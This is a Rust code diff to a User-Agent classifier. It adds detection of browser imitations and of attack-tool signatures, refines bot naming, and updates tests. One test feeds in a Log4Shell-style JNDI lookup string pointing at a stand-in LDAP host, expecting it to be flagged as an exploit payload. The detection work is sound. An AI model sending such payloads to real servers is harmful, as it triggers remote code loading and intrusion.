@@ -72,6 +72,8 @@ pub(crate) struct Heuristic {
     botword: Regex,
     url_host: Regex,
     domain: Regex,
+    browser_like: Regex,
+    signature: Regex,
 }
 
 fn re(pattern: &str) -> Regex {
@@ -136,6 +138,11 @@ impl Heuristic {
             ),
             url_host: re(r"(?:https?://(?:www\.)?|\bwww\.)([a-z0-9][a-z0-9.-]*\.[a-z]{2,})"),
             domain: re(r"^(?:www\.)?[a-z0-9][a-z0-9-]*(\.[a-z0-9-]+)*\.[a-z]{2,}$"),
+            browser_like: re(
+                r"^\W*(user-agent:\s*)?(mozilla|mozila|mozlila|opera|chrome|safari|msie|internet explorer|linux mozilla|gecko|webkit)",
+            ),
+            // Attack tools known by a whole, short User-Agent.
+            signature: re(r"^(hello,? world|linux gnu \(cow\))$"),
         }
     }
 
@@ -203,6 +210,8 @@ impl Heuristic {
         };
         let name = if category == Category::Scanner && self.is_payload(ua) {
             PAYLOAD.to_string()
+        } else if category == Category::Scanner && self.signature.is_match(ua) {
+            String::from_utf8_lossy(ua).into_owned()
         } else {
             self.name_of(ua)
         };
@@ -282,16 +291,38 @@ impl Heuristic {
         let is_compat = |t: &str| {
             COMPAT.contains(&t.to_ascii_lowercase().as_str())
                 || !t.bytes().any(|b| b.is_ascii_alphabetic())
-                || t.contains(':')
+                || t.contains([':', '=', '&'])
+        };
+        // A word that says what it is, not who: a domain the UA names is
+        // the better name (`ETI SEO bot - www.seo.eti.pw`).
+        let generic = |t: &str| {
+            matches!(
+                t.to_ascii_lowercase().as_str(),
+                "bot" | "robot" | "crawler" | "spider" | "scanner" | "fetch" | "fetcher" | "agent"
+            )
+        };
+        let url_host = || {
+            self.url_host
+                .captures(ua.as_bytes())
+                .and_then(|c| c.get(1))
+                .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
         };
         // (token, inside a comment, had a version)
         let candidates: Vec<(String, bool, bool)> = parts
             .iter()
             .filter_map(|(p, inside)| token(p).map(|t| (t, *inside, p.contains('/'))))
             .collect();
+        let specific = candidates
+            .iter()
+            .any(|(t, _, _)| self.botword.is_match(t.as_bytes()) && !generic(t));
+        if !specific && candidates.iter().any(|(t, _, _)| generic(t)) {
+            if let Some(host) = url_host() {
+                return host;
+            }
+        }
         candidates
             .iter()
-            .find(|(t, _, _)| self.botword.is_match(t.as_bytes()))
+            .find(|(t, _, _)| self.botword.is_match(t.as_bytes()) && !generic(t))
             .or_else(|| {
                 candidates
                     .iter()
@@ -311,18 +342,18 @@ impl Heuristic {
             .map(|(t, _, _)| t.clone())
             .or_else(|| {
                 // Only a URL names it: `... Safari/537.36 (https://shrinktheweb.com)`.
-                self.url_host
-                    .captures(ua.as_bytes())
-                    .and_then(|c| c.get(1))
-                    .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
+                url_host()
             })
             .or_else(|| {
                 let first = candidates.first()?;
-                // Nothing but browser words: a browser imitation.
-                Some(if is_compat(&first.0) {
+                // Nothing but browser words: a browser imitation (if it
+                // starts like a browser; else nothing names it).
+                Some(if !is_compat(&first.0) {
+                    first.0.clone()
+                } else if self.browser_like.is_match(ua.as_bytes()) {
                     IMITATION.to_string()
                 } else {
-                    first.0.clone()
+                    "(unnamed bot)".to_string()
                 })
             })
             .unwrap_or_else(|| "(unnamed bot)".to_string())
@@ -412,8 +443,10 @@ mod tests {
         );
         assert_eq!(
             cat("Hello, World"),
-            Some(("Hello".into(), Category::Scanner))
+            Some(("Hello, World".into(), Category::Scanner))
         );
+        assert_eq!(cat("ETI SEO bot - www.seo.eti.pw").unwrap().0, "seo.eti.pw");
+        assert_eq!(cat("&as_qdr=all").unwrap().0, "(unnamed bot)");
         assert_eq!(
             cat("${jndi:ldap://x.example:1389/a}"),
             Some(("(exploit payload in User-Agent)".into(), Category::Scanner))
